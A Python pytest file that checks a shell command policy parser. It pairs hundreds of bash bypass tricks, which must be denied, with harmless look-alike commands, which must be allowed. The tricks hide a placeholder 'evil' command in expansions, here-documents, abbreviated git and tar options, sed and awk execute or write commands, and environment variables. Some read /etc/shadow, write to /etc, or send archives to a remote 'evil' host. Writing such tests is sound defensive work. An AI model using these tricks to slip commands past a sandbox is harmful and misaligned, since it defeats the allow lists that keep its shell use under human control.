"""Ways to talk a shell policy round, each with what it does in bash, next to the harmless line that looks like it."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any

import pytest

from policy.shell import parse
from tests.support.rows import each_row

from .helpers import shell

if TYPE_CHECKING:
    from policy.facts import ShellName

LISTED = [
    ":", "[", "awk", "bash", "bfs", "cat", "ccache", "cd", "chronic", "coverage", "csh", "curl", "dash", "declare",
    "diff3", "echo", "env", "exec", "export", "faketime", "find", "fzf", "gcc", "gcc-12", "genv", "gfind", "gh",
    "git", "go", "grep", "gtimeout", "gxargs", "hg", "i386", "install", "jobs", "ls", "man", "mapfile", "nix-shell",
    "npm", "openssl", "original-awk", "pandoc", "patch", "perl", "perl5.36-x86_64-linux-gnu", "printf", "python3",
    "python3.12t", "read", "rg", "rsync", "sed", "setpriv", "sh", "sort", "split", "ssh-agent", "svn", "tar", "test",
    "time", "touch", "true", "unset", "uv", "wait", "wget", "x86_64-linux-gnu-gcc", "xargs", "zip", "zsh",
]  # fmt: skip

TRICKS = {
    "here-document: a body is expanded where its delimiter is bare": [
        "cat <<E\n`evil`\nE",
        "cat <<E\na `evil` b\nE",
        "cat <<E\n'`evil`'\nE",
        "cat <<E\n${x:-'$(evil)'}\nE",
        "cat <<E\n${x##`evil`}\nE",
        "cat <<-E\n\t$(evil)\n\tE",
        "cat <<-E\n$(evil)\nE",
        "cat <<-E\n\ta\n\t$(evil)\nE",
        "(cat <<E\n`evil`\nE\n)",
        'echo "$(cat <<E\n`evil`\nE\n)"',
    ],
    "expansion: the pattern behind # and % is expanded, quoted or not": [
        "x=a; echo ${x#$(evil)}",
        "x=a; echo ${x##$(evil)}",
        "x=a; echo ${x%$(evil)}",
        "x=a; echo ${x%%$(evil)}",
        "x=a; echo ${x%%`evil`}",
        'x=a; echo "${x##$(evil)}"',
        'x=a; echo "${x%"$(evil)"}"',
        "x=a; echo \"${x#'$(evil)'}\"",
        "x=a; echo ${x##*[$(evil)]}",
        "x=a; echo ${x##>(evil)}",
    ],
    "expansion: the first brace that closes ends it, whatever has opened before": [
        "echo ${x%{}; evil }",
        "echo ${x%%{}; evil }",
        "echo ${x#{}; evil }",
        "echo ${x##{}; evil }",
        'echo "${x%{}"; evil "}"',
        "echo ${x%{} > evil; evil }",
        "echo ${x%a{}; evil }",
        "echo ${x:-{}; evil }",
        "echo ${x:+{}; evil }",
        "echo ${x-{}; evil }",
        "echo a${x%{}b; evil }",
        "echo ${x%{}\nevil }",
        "echo ${x:-${y%{}}; evil }",
        "ls > ${x%{}; evil }",
        "x=${y%{}; evil }",
        "cat <<E\n${x%{}$(evil)}\nE",
        "echo ${x%\\}; evil }",
        "echo ${x%'}'; evil }",
        'echo ${x%"}"; evil }',
    ],
    "expansion: quotes in one mean other things in other shells": ['echo "${x:-"$(ls)"}"'],
    "time: its option is one only as it is written": [
        "time -\\p",
        "ls; time -\\p",
        "time '-p' ls",
        'time "-p"',
        "time -''p ls",
    ],
    "strings that are translated: what a catalogue says is expanded": [
        'echo $"a"',
        'echo b$"a"',
        'x=$"a" ls',
        'x=$ "evil"',
        'x=$\t"evil"',
        'x=$ "evil" y=1',
        '[ a = $"b" ]',
        'echo ${x:-$"a"}',
    ],
    "strings with escapes: a backslash is escaped by another one, and what follows is not": [
        "echo $'a\\\\' ; evil #\\''",
        "echo $'\\\\'; evil #'",
        "x=$'\\\\'; evil #'",
        "[[ a == $'\\\\' ]]; evil #' ]]",
    ],
    "backquotes: a dollar in front of them changes nothing": [
        "echo \"$`cat '``''evil #'\"\"`\"",
        "echo $`cat '``''evil #'\"\"`",
        "echo $`echo \\`evil\\``",
    ],
    "test: its operators are words like any others outside of one": [
        "(echo =~ $x;evil )",
        "(echo == $x;evil )",
        "(echo =~ $x|evil )",
        "(echo =~ $x&&evil )",
        "(echo == $x||evil )",
        "(echo =~ $x>>evil )",
        "(echo =~ $x\nevil )",
        "(echo == ${x};evil )",
        '(echo == "$x";evil )',
        "(echo == $(ls);evil )",
        "echo $(echo =~ $x;evil )",
        "echo `echo == $x;evil `",
        "if (echo =~ $x;evil ); then ls; fi",
        "echo =~ \nevil",
        "echo == \nevil",
        "echo `echo =~ \nevil`",
        "echo a =~\nevil",
        "echo =~ \\\\\nevil",
        "[ a =~ $x;evil ]",
        "[ a == $x;evil ]",
        "[ -n $x;evil ]",
        "[ a = $x&evil ]",
    ],
    "expansion: single quotes quote nothing in one that stands in double quotes": [
        "echo \"${x:-'$(evil)'}\"",
        "echo \"${x:-'`evil`'}\"",
        "x=1; echo \"${x:+'$(evil)'}a\"",
        'echo "${x-"\'$(evil)\'"}"',
        ": \"${x:-${y:-'$(evil)'}}\"",
    ],
    "expansion: a default is a word of its own": [
        "echo ${x:-<(evil)}",
        "echo ${x:-$((`evil`))}",
        ': "${x:-"${y:-`evil`}"}"',
        ": ${x:+a} ${x:-b`evil`c}",
    ],
    "backquotes: an escaped pair inside runs at the second reading": [
        "echo `echo \\`evil\\``",
        'echo "`echo \\`evil\\``"',
        'echo "`echo \\$(evil)`"',
        "echo \"`echo '\\$(evil)'`\"",
    ],
    "backquotes: the first one that is not escaped ends it, in quotes too": [
        "echo \"`cat '``''evil #'\"\"`\"",
        "echo `ls '``evil`'`",
    ],
    "dollars: $$ is the shell's number, and what follows is on its own": [
        'echo "$${"\'$(evil)\'"}"',
        "echo $${x'$(evil)'}",
        'echo "$\\\n{x-"\'$(evil)\'"}"',
        'echo "$\\\n(evil)"',
        "echo $$'\\'$(evil)\\''",
    ],
    "numbers: a base may be followed by an expansion": [
        "x=1#`evil`",
        "x=1#$(evil)",
        "echo 1#$(evil)",
        "echo 10#`evil`",
    ],
    "names: one that starts like a bracket or a brace": [
        "[e]",
        "[ev]il",
        "[! -e x ]",
        "[-n a ]",
        "[[$x ]]",
        "[[* ]]",
        "[[a > out ]]",
        "![ -n a ]",
        "![[ a =]]",
        "!(ls)",
        "{}",
        "for x in a; do {}; done",
        "{ls;}",
        "time -pp",
        "time -p -p",
        "time -v ls",
        "time -- -- ls",
        "exec -c ls",
        "exec -a x ls",
        "exec -- ls",
        "\\ ls",
        "ls;\\\tls",
        "\ufeffls",
        "\u200bls",
    ],
    "blanks: the grammar passes over some inside of a word": [
        "x=''\\ls evil",
        "A=1 x=''\\ls evil",
        "x=$ evil",
        "ls; x=$ evil",
        "x=a$ evil",
    ],
    "tokens: << takes the word in front of it for its own": [
        "find . -delete<<E\nE",
        "find . -delete1> out",
        "sort -onew1> out",
        "time -1> out",
        "ls {PATH}> out; ls",
        "find . -exec evil +<<E\nE",
        "A=1 find . -delete<<'E'\nE",
        "sh -c evil<<E\nE",
        "env -S evil<<-E\nE",
    ],
    "shells: further options may stand between -c and the text": [
        "bash -c -- 'evil x'",
        "sh -c -e evil",
        "bash -c -x 'evil x'",
        "bash -c +x 'evil x'",
        "bash -c -o pipefail 'evil x'",
        "bash -c +o pipefail -- 'evil'",
        "bash -ec -u -- evil",
        "bash -c --norc 'evil x'",
        "bash -c -O extglob ls",
        "bash -co pipefail ls",
        "bash -c - evil",
        "bash -c",
        "bash -c --",
        "zsh -c -e ls",
        "csh -c ls",
    ],
    "options: a beginning of a long name stands for the whole": [
        "git fetch --upl evil o",
        "git clone --upl=evil o",
        "git clone --te evil o",
        "git clone --con core.pager=evil o",
        "git push --rece=evil o",
        "git grep --open=evil x",
        "git grep --op x",
        "git archive --remo=x HEAD",
        "git archive --outp=/etc/x HEAD",
        "git apply --uns a",
        "tar --use=evil -cf a.tar .",
        "tar --checkpoint-=exec=evil -cf a.tar .",
        "tar --info=evil -cf a.tar .",
        "tar --new-=evil -cf a.tar .",
        "tar --rs=evil -cf a.tar .",
        "tar --rm=evil -cf a.tar .",
        "tar --to-c=evil -xf a.tar",
        "rsync --rs evil a b",
        "wget --exe=x a",
        "wget --use-a=evil a",
        "man --pag=evil ls",
        "man --htm=evil ls",
        "sort --ou=/etc/x a",
        "sort --comp=evil a",
        "split --fil=evil a",
        "zip --unz=evil a.zip a",
        "patch --e a b",
        "curl --conf a",
        "npm --script-sh=evil ls",
    ],
    "git: gpg, a manual and flags that look like the option that a message follows": [
        "git log --format=%G?",
        "git --help log",
        "git log -m --output=/etc/x",
        "git stash show -m --output=/etc/x",
    ],
    "tar: an archive with a colon is on another machine": [
        "tar cf evil:x y",
        "tar -cf evil:x y",
        "tar -cfevil:x y",
        "tar czvf evil:x y",
        "tar bf 20 evil:x y",
        "tar c -f evil:x y",
        "tar c --file evil:x y",
        "tar c --fi=evil:x y",
        "tar cf u@evil:/x y",
        'tar cf "a$x" y',
        "TAPE=evil:x tar c y",
    ],
    "xargs: these take a value behind = alone": [
        "xargs --max-lines evil",
        "xargs --replace evil",
        "xargs --eof evil",
        "xargs -0 --replace evil {}",
        "xargs --replace={} evil {}",
        "gxargs --replace evil",
    ],
    "names: other systems' spellings, and programs that start others": [
        "gtimeout 5 evil",
        "genv evil",
        "gxargs evil",
        "gfind . -exec evil {} +",
        "bfs . -exec evil {} +",
        "jobs -x evil x",
        "chronic evil",
        "faketime now evil",
        "svn diff --diff-cmd evil",
        "svn diff --diff-c evil",
        "pandoc -F evil a",
        "pandoc --filt=evil a",
        "pandoc -t evil.lua a",
        "fzf --preview evil",
        "original-awk '{print | \"evil\"}'",
    ],
    "variables: without PATH a shell looks in the working directory": [
        "env -i sh -c ls",
        "env - ls",
        "env --ignore-environment sh -c ls",
        "env -u PATH sh -c ls",
        "env -uPATH sh -c ls",
        "env --unset=PATH sh -c ls",
        "env --unset PATH ls",
        "env -u $x ls",
    ],
    "lines: each line between brackets is a command": ["[ ! a\n= b ]", "[ a =\\\n b ]", '[ "" =""\n]'],
    "patterns: [[ and case expand theirs": [
        "[[ ab =~ a`evil` ]]",
        "[[ ab =~ [$(evil)] ]]",
        "[[ a != +(`evil`) ]]",
        "[[ ab == *`evil`* ]]",
        "case ab in a?`evil`|b) :;; esac",
        "case ab in [`evil`]) :;; esac",
        "case x in @($(evil)|b)) echo ;; esac",
    ],
    "arithmetic: quotes do not keep its text from being expanded": [
        "echo $(('$(evil)'))",
        "echo $(('`evil`'))",
        "(('$(evil)'))",
        "echo $[`evil`]",
    ],
    "arithmetic: behind ! and time, where the grammar sees subshells and a program": [
        "ls='a[$(evil)]'; ! ((ls))",
        "ls='a[$(evil)]'; if ! ((ls)); then ls; fi",
        "ls='a[$(evil)]'; time ((ls))",
        "ls='a[$(evil)]'; time [[ ls -eq 1 ]]",
    ],
    "names: a subscript that comes in by expansion is evaluated": [
        "x='[$(evil)]'; read \"a$x\" <<< 1",
        "x='[$(evil)]'; mapfile \"a$x\" <<< 1",
        "x='[$(evil)]'; declare \"a$x=1\"",
        "x='[$(evil)]'; export \"a$x=1\"",
        "x='[$(evil)]'; a=(1 2); unset \"a$x\"",
        "declare 'a[$(evil)]='\"$x\"",
    ],
    "names: half of one comes in by expansion, and the whole steers": [
        "x=S4; read \"P$x\" <<< '$(evil)'; echo",
        'x=S4; export "P$x=\\$(evil)"; echo',
        'x=S4; declare "P$x=\\$(evil)"; echo',
        'x=/tmp; export "PATH=$x"; ls',
        "x=ATH; declare P$x=/tmp; ls",
    ],
    "test: an operator that comes in by expansion evaluates its operand": [
        "x=-v; test ! \"$x\" 'a[$(evil)]'",
        "x=-v; test \"$x\" 'a[$(evil)]' -a y",
        "x=-v; [ a -a \"$x\" 'a[$(evil)]' ]",
        'x=-v; y=\'a[$(evil)]\'; test a -a "$x" "$y"',
        "[ * ]",
    ],
    "variables: a program takes options, or the programs that it runs, from its environment": [
        spelling.format(assignment)
        for assignment in (
            "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=evil'",
            "ZIPOPT='-T -TT evil'",
            "RIPGREP_CONFIG_PATH=/w/cfg",
            "GCC_EXEC_PREFIX=/w/",
            "COMPILER_PATH=/w",
        )
        for spelling in ("{} tar cf a.tar .", "{}; tar c .", "env {} tar c .", "export {}; tar c .", "export {} b=1")
    ],
    "sed: commands that run or write, behind whatever comes first": [
        "sed e a",
        "sed '1e evil' a",
        "sed p\\;e a",
        "sed 's/a/b/;e' a",
        "sed 's/a/b/ge' a",
        "sed 's,a,b,Me' a",
        "sed 's/a\\/b/c/e' a",
        "sed -n '/a/{p;e}' a",
        "sed ':a;e' a",
        "sed 'i foo\ne evil' a",
        "sed 'a\\\nfoo\ne evil' a",
        "sed 'b x\ne' a",
        "sed 'y/a/b/e' a",
        "sed '$!w /etc/x' a",
        "sed 's/a/b/w /etc/x' a",
        "sed -n 'r /etc/shadow' a",
        "sed 'R x' a",
        "sed 's/[/]/g;s/w f/1/' a",
        "sed -i '' 'w /etc/x' a",
        "sed -i p 'w /etc/x' a",
        "sed -i p 's/a/b/w /etc/x' a",
        "sed -e p -e e a",
        "sed -ne e a",
        "sed -f a b",
        "sed --file=a b",
        "sed --expression=e a",
        "sed p -s$X a",
        'sed "$x" a',
    ],
    "awk: print writes wherever it is told to, and runs what it is piped to": [
        "awk '{print > \"/etc/x\"}' a",
        "awk '{print>\"/etc/x\"}' a",
        "awk '{print >> \"/etc/x\"}' a",
        "awk '{print $1 > $2}' a",
        "awk '{print $1, $2 >\n\"/etc/x\"}' a",
        'awk \'BEGIN{print "}" > "/etc/x"}\'',
        'awk \'BEGIN{print ";" > "/etc/x"}\'',
        'awk \'BEGIN{printf("a;b") > "/etc/x"}\'',
        "awk 'BEGIN{print ((1)) > \"/etc/x\"}'",
        'awk \'BEGIN{print "x" | "evil"}\'',
        'awk \'BEGIN { "ev" "il" | getline }\'',
        "awk -F: -v a=b '{print > a}' a",
        "awk '/a/ {print | \"evil\"}' a",
        "awk '/a|b/ {print | \"evil\"}' a",
        "awk '/[/]/ | \"evil/\"' a",
        'awk \'BEGIN {x = "~ /" | "evil/"}\' a',
        "awk '/=a/ | \"evil/\"' a",
    ],
    "variables: bash evaluates what some are given, as numbers": [
        "RANDOM='a[$(evil)]'",
        "HISTCMD='a[$(evil)]'",
        "SRANDOM='a[$(evil)]'; ls",
        "read RANDOM <<< 'a[$(evil)]'",
        "for RANDOM in 'a[$(evil)]'; do ls; done",
        "export RANDOM='a[$(evil)]'",
        "mapfile RANDOM <<< 'a[$(evil)]'",
    ],
    "variables: _ is a name, too": ["_=x evil", "_+=x evil", "_=x ls"],
    "builtins: some start a program or evaluate a name": [
        "jobs -x evil",
        "jobs -x -- evil",
        "wait -n -p 'a[$(evil)]'",
    ],
    "tilde: it may stand for somebody else's home directory, or for itself": [
        "cd ~root; echo a > x",
        "cd ~root/x && echo a > x",
        "echo a > x=~/y",
        "echo a > x=a:~/y",
        "cd x=~/y; echo a > x",
    ],
    "options: GNU programs take them by their first letters, and some have a short one": [
        "tar --use=evil -xf a",
        "tar --checkpoint=1 --checkpoint-=exec=evil -cf a .",
        "tar --inf=evil -xMf a",
        "tar xf localhost:a",
        "tar --file=localhost:a -x",
        "zip -T --unz=evil a b",
        "zip --test a b",
        "wget --use-a=evil http://x",
        "wget -qe use_askpass=evil http://x",
        "wget --exe=use_askpass=evil http://x",
        "install -s --strip-p=evil a b",
        "install -s --strip-program evil a b",
        "diff3 --diff-p=evil a b c",
        "gcc --prefix=/w/x a.c",
        "gcc -Wl,-plugin,x.so a.c",
        "x86_64-linux-gnu-gcc -wrapper evil a.c",
        "ccache evil",
        "ccache gcc-12 -wrapper evil a.c",
        "go build --toolexec=evil ./x",
        "go vet --vettool=evil ./x",
        "go build -ldflags '-extld evil' ./x",
        "go env -w=true CC=evil",
        "npm view --git evil github:a/b",
        "openssl engine /w/x.so",
    ],
    "starters: programs that are there to start another one": [
        "setpriv --no-new-privs evil",
        "ssh-agent evil",
        "i386 evil",
        "fzf --preview evil",
    ],
    "git: it takes options by their first letters": [
        "git fetch --upl=evil origin",
        "git ls-remote --up=evil origin",
        "git clone --upload evil /w/x",
        "git clone --co=core.sshCommand=evil git@localhost:x",
        "git clone --te=/w/x /w/y",
        "git push --e=evil origin",
        "git push --rece=evil origin",
        "git grep --op=evil x",
        "git grep --o=evil x",
        "git merge -ns evil x",
        "git pull -qs evil",
    ],
    "git: -m takes a message where it is one": [
        "git rebase -m --exec=evil main",
        "git rebase -m -xevil main",
        "git grep -m 1 -Oevil x",
        "git fetch -m --upload-pack=evil",
        "git merge -X -m -sevil x",
        "git merge -F -m --strategy=evil x",
    ],
    "git: an address may stand behind two dashes": [
        "git fetch -- evil::x",
        "git clone -- evil::x y",
        "git push -- evil::x main",
        "git remote set-url -- origin evil::x",
        "git fetch --end-of-options evil::x",
        "git archive --remote evil::x HEAD",
    ],
}

NEIGHBOURS = {
    "options of many programs": [
        "tar -xzf a.tar.gz -C b",
        "tar --exclude=a:b -cf ./a.tar .",
        "zip -r a.zip b",
        "wget -q -O a.json http://x/a:b",
        "wget -Ofile http://x",
        "install -m 644 a b",
        "diff3 a b c",
        "gcc -O2 -Wl,-O1 -o plugin plugin.c",
        "x86_64-linux-gnu-gcc -c a.c",
        "ccache gcc-12 -c a.c",
        "go build -ldflags '-s -w' ./x",
        "go env",
        "npm view x",
        "openssl dgst -sha256 a",
        "uv pip list",
        "gh pr create --title a --body b",
    ],
    "interpreters": [
        "perl -w a.pl -e b",
        "perl a.pl",
        "python3.12t a.py",
        "python3 -m pytest -m timeit",
        "python3 -m coverage run -m pytest",
        "coverage run -m pytest",
        "python3 data/stdin.py",
    ],
    "builtins": ["jobs -l", "wait", "ls & wait $!", "ls & wait %1", "COLUMNS=80 ls", "cd '~'; echo a > x", "ls x=~/y"],
    "git": [
        'git merge --no-ff -m "$x" y',
        'git merge y -m "-x: $x"',
        'git stash push -m "$x"',
        "git commit -m --exec=x",
        'git tag -a v1 -m "$x"',
        "git push origin -- main",
        "git checkout -- 'a::b'",
        "git log --text --color --reverse",
    ],
    "here-document": [
        "cat <<'E'\n`evil` $(evil)\nE",
        'cat <<"E" > notes.md\n${x##`evil`}\nE',
        "cat <<E\nplain $1 ${x} \\`quoted\\` <(x\nE",
        "cat <<-E\n\tplain\n\tE",
    ],
    "expansion": [
        "echo ${x%.py}",
        'echo "${x##*/}"',
        "echo ${x:-a} ${#x}",
        'echo "${x:-$(ls)}" ${x:-${y}} ${x##*/} ${x%.*} ${x%%[0-9]*} ${x:-$HOME/a} ${x:-a b}',
        "echo '${x:-`evil`}'",
    ],
    "dollars": ['echo "$$" $$ a$$ "/w/x.$$.y" "$$"', "echo 'a$b' a$", 'echo "$x$y" "$x${y}"'],
    "brackets": ["[[ a ]]", "{ ls; }", "{\nls\n}", "[ a ]", "time -p ls", "exec ls", "exec > out", "ls a\\ b \\\n c"],
    "backquotes": ["echo `ls`", 'echo "`ls -l`"', "echo 'a `b`'", 'echo "a \\`b\\`"'],
    "patterns": [
        "[[ $a == b* ]]",
        "[[ $a =~ ^v[0-9]+$ ]]",
        "case $a in *.py|b?) ls;; esac",
        "case $a in [ab]*) ls;; esac",
    ],
    "shells": [
        "bash -c -- ls",
        "bash -c -e 'ls -l'",
        "sh -eu -c ls",
        "bash -c -o pipefail 'ls | cat'",
        "bash -o pipefail -c ls",
        "bash -c 'ls' -x",
    ],
    "options": [
        "tar --checkpoint=100 --exclude='*.o' -cf a.tar .",
        "tar --file=a.tar --create --verbose .",
        "sort --key=2 --check --reverse a",
        "sort --field-separator=: a",
        "wget --continue --quiet a",
        "wget --exclude-directories=a b",
        "man --where ls",
        "rsync --recursive --exclude=a --delete a b",
        "split --lines=5 a",
        "zip --recurse-paths a.zip a",
        "curl --compressed --connect-timeout 5 --data a --url https://x",
        "npm ls --omit=dev",
        "patch --strip=1 --dry-run --input=a",
    ],
    "git's options": [
        "git --help",
        "git log --oneline --stat --text --all --graph --remotes --exclude=x",
        "git log -S'foo' --pretty='%h %an'",
        "git commit --amend --no-edit --signoff",
        'git commit -m"Some" -a',
        "git commit -am x --no-gpg-sign",
        "git commit -m -S",
        "git tag -a v1 -m -s",
        "git tag -l --sort=-v:refname",
        "git add --update --all",
        "git pull --rebase --no-edit",
        "git merge --no-edit x",
        "git branch --list --all --set-upstream-to=o/x",
        "git ls-files --others --exclude-standard",
        "git ls-remote --heads",
        "git fetch --prune --tags --update-shallow",
        "git diff --no-ext-diff --no-textconv --unified=3",
        "git grep --only-matching -e x",
    ],
    "tar": [
        "tar cf a.tar x:y",
        "tar czf ./a:b.tar x",
        "tar -xzf a.tgz -C out",
        "tar cf a:b.tar --force-local x",
        "tar --mtime='2020-01-01 10:00' -cf a.tar .",
        "tar --transform=s:a:b: -cf a.tar .",
    ],
    "xargs": ["xargs --max-lines=3 echo", "xargs --replace echo {}", "xargs --max-args 3 echo", "gxargs -n 1 echo"],
    "others": ["gtimeout 5 ls", "gfind . -name a", "jobs -l", "svn diff a", "pandoc a.md -o a.html --from markdown"],
    "arithmetic": ["echo $((1 + 2 * (3 - 1)))", "((1 < 2)) && ls", "! (ls)", "time (ls)", "! ( (ls); ls )"],
    "names": [
        "read line",
        "read -r a b",
        "export NODE_ENV=test",
        'export "A=$x"',
        "export A=$x",
        "declare -x A=1",
        "unset A",
        "export A",
    ],
    "test": ["test -f x", 'test -f "$x"', '[ "$a" = "$b" ]', '[ -n "$a" ]', "[ a -nt b ] || ls", '[ ! -e "$x" ]'],
    "variables": [
        "NODE_ENV=test ls",
        "env A=1 ls",
        "env -u A -uB --unset=C ls",
        "TZ=UTC LANG=C ls",
        "DEBUG=1 tar cf a.tar .",
    ],
    "awk": [
        "awk '{print $1}' a",
        "awk -F: '$3 > 5 { print $1 }' a",
        "awk '{ if ($1 > 2) print $1 }' a",
        "awk 'END { print NR }' a",
        "awk '$1 || $2 { print }' a",
        "awk '/a|b/' a",
        "awk '!/^(a|b)/ {print $1}' a",
        "awk '$2 ~ /a|b\\/c/ {n++} END {print n}' a",
    ],
}


def _rows(table: dict[str, list[str]]) -> list[Any]:
    return [
        pytest.param(line, id=f"{name.partition(':')[0]}-{line}") for name, lines in table.items() for line in lines
    ]


@each_row("command", _rows(TRICKS))
@each_row("lists", [{"allowedCommands": LISTED}, {"blockedCommands": ["evil"]}], ids=["allow", "block"])
def test_tricks_are_denied_though_every_program_they_show_is_listed(command: str, lists: dict[str, Any]) -> None:
    assert shell(command, **lists) == "DENIED"


@each_row("command", _rows(NEIGHBOURS))
@each_row("lists", [{"allowedCommands": LISTED}, {"blockedCommands": ["evil"]}], ids=["allow", "block"])
def test_their_everyday_neighbours_are_allowed(command: str, lists: dict[str, Any]) -> None:
    assert shell(command, **lists) == "ALLOWED"


@pytest.mark.parametrize(
    "command",
    [
        "echo " + "${a:-" * 3_000 + "}" * 3_000,
        "sed 's/" + "[[:a:]" * 10_000 + "' a",
        "awk '" + "print" * 20_000 + "'",
        "echo '" + "\\" * 100_000 + "'",
    ],
    ids=["nested expansions", "brackets", "print and no >", "backslashes"],
)
def test_looking_closely_takes_no_long_time(command: str) -> None:
    started = time.process_time()
    parse(command, "bash")
    assert time.process_time() - started < 1


# Plain sh


BASH_ONLY = [
    "[[ a > b ]]",
    "[[ x || ls ]]",
    "((1 > 2)); cat 2",
    "echo $'a\\' ; evil #\\''",
    "echo a$'b'",
    "echo ${x:-a}$'b'",
    "case a in $'a') ls;; esac",
    "ls &> out",
    "ls &>> out",
    "ls |& cat",
    "cat <<< a",
    "cat <(ls)",
    "echo $(cat <(ls))",
    "echo a {fd}> out",
    "a=(1 2)",
    "a+=x",
    "export A=$x",
]


@each_row("command", BASH_ONLY)
def test_what_only_bash_has_is_not_decided_for_sh(command: str) -> None:
    """To dash `a &> b` are two commands, `((` two subshells, `[[` a program, `$'…'` a dollar and a string."""
    assert shell(command, shell_name="sh", allowedCommands=LISTED) == "DENIED"
    assert shell(command, shell_name="sh", blockedCommands=["evil"]) == "DENIED"
    assert shell(command, shell_name="sh") == "ALLOWED"
    assert shell(command, shell_name="bash", allowedCommands=LISTED) == "ALLOWED"


def test_functions_of_bash_alone_are_not_decided_for_sh() -> None:
    expected_of: dict[ShellName, str] = {"bash": "ALLOWED", "sh": "DENIED", "zsh": "DENIED"}
    for name, expected in expected_of.items():
        assert shell("function f { ls; }", shell_name=name, allowedCommands=LISTED) == expected
    assert shell("f() { ls; }; f", shell_name="sh", allowedCommands=LISTED) == "ALLOWED"


@each_row(
    ("outer", "command", "expected"),
    [
        ("bash", "sh -c 'ls &> out'", "DENIED"),
        ("bash", "bash -c 'ls &> out'", "ALLOWED"),
        ("sh", "bash -c 'ls &> out'", "ALLOWED"),
        ("bash", "bash -c \"sh -c 'ls &> out'\"", "DENIED"),
        ("bash", "dash -c '[[ a ]]'", "DENIED"),
        ("bash", "zsh -c 'ls *(e:evil:)'", "DENIED"),
        ("bash", "fish -c ls", "DENIED"),
        ("bash", "sh -c 'ls > out'", "ALLOWED"),
    ],
)
def test_a_shell_inside_is_read_by_its_own_grammar(outer: ShellName, command: str, expected: str) -> None:
    listed = [*LISTED, "bash", "dash", "zsh", "fish"]
    assert shell(command, shell_name=outer, allowedCommands=listed) == expected


@each_row(
    "command",
    [
        "ls -la 'a b' \"c d\" | grep x && echo done",
        "ls > out 2>&1",
        "cat <<E\n$x\nE",
        "cat <<'E' > out\n[[ a ]] $'x' <(y)\nE",
        "if [ -f a ]; then cat a; else echo none; fi",
        'for f in a b; do cat "$f"; done',
        "while test -f a; do ls; done",
        "case $a in *.py) ls;; esac",
        "(cat a; ls) && { echo done; }",
        'echo "$(ls)" `ls` $((1 + 2)) ${x:-y} ${x%.py}',
        "grep -n '[[:space:]]$' a | sort",
        "grep '$' a; echo \"a [[ b\" '&> |& <<<'",
        "awk '{print $1}' a",
        'export A=1 B="$x"',
        "A=1 ls &",
        "! true",
    ],
)
def test_everyday_posix_lines_are_allowed_for_sh(command: str) -> None:
    assert shell(command, shell_name="sh", allowedCommands=LISTED) == "ALLOWED"


# Files that each process finds elsewhere


@each_row("opens", ["echo a >", "echo a >>", "cat <", "exec 3>", "{ ls; } >"])
@each_row(
    "target",
    [
        "/proc/self/cwd/x",
        "/proc/thread-self/cwd/x",
        "/proc/123/root/w/x",
        "/proc/self/environ",
        "/proc/self/fd/1",
        "//proc/./self/cwd/x",
        "/w/../proc/self/cwd/x",
        "/proc/self/cwd/../../w/x",
        "'/pr'oc/self/cwd/x",
        "/dev/fd/3",
        "/dev/../dev/fd/3",
    ],
)
@each_row("lists", [{"allowedCommands": [*LISTED, "exec"]}, {}], ids=["allow", "none"])
def test_a_redirection_through_proc_is_denied_wherever_the_host_sees_it_lead(
    opens: str, target: str, lists: dict[str, Any]
) -> None:
    line = f"{opens} {target}"
    spelling = "".join(target.split("'"))
    assert shell(line, links={spelling: "/w/x"}, **lists) == "DENIED"


def test_a_quoted_tilde_is_a_directory_of_that_name() -> None:
    assert shell("cd '~'; echo a > x", links={"/w/./~/x": "/etc/x"}) == "DENIED"
    assert shell("cd \\~/b; echo a > x", links={"/w/./~/b/x": "/etc/x"}) == "DENIED"
    assert shell("cd '~'; echo a > x", links={"/home/u/x": "/etc/x"}) == "ALLOWED"


def test_a_directory_or_link_into_proc_is_denied_too() -> None:
    links = {"/w/link/x": "/proc/self/cwd/x", "/w/up/x": "/proc/self/cwd/../../w/x"}
    assert shell("echo a > link/x", links=links) == "DENIED"
    assert shell("echo a > up/x", links=links) == "DENIED"
    assert shell("cd /proc/self/cwd; echo a > x", links={"/proc/self/cwd/x": "/w/x"}) == "DENIED"


@pytest.mark.parametrize(
    "command",
    ["ls > /dev/null 2>&1", "ls > /dev/stdout", "ls 2> /dev/stderr", "cat < /dev/stdin", "ls >&2", "ls > processed"],
)
def test_redirections_to_the_null_device_and_the_streams_are_allowed(command: str) -> None:
    assert shell(command, allowedCommands=LISTED) == "ALLOWED"


def test_what_is_evaluated_is_named_in_the_order_of_the_line() -> None:
    parsed = parse("read f e d c b a; (( f + e + d + c + b + a ))")  # a set's order differs from process to process
    assert [reason.split()[0] for reason in parsed.evaluates] == ["f", "e", "d", "c", "b", "a"]
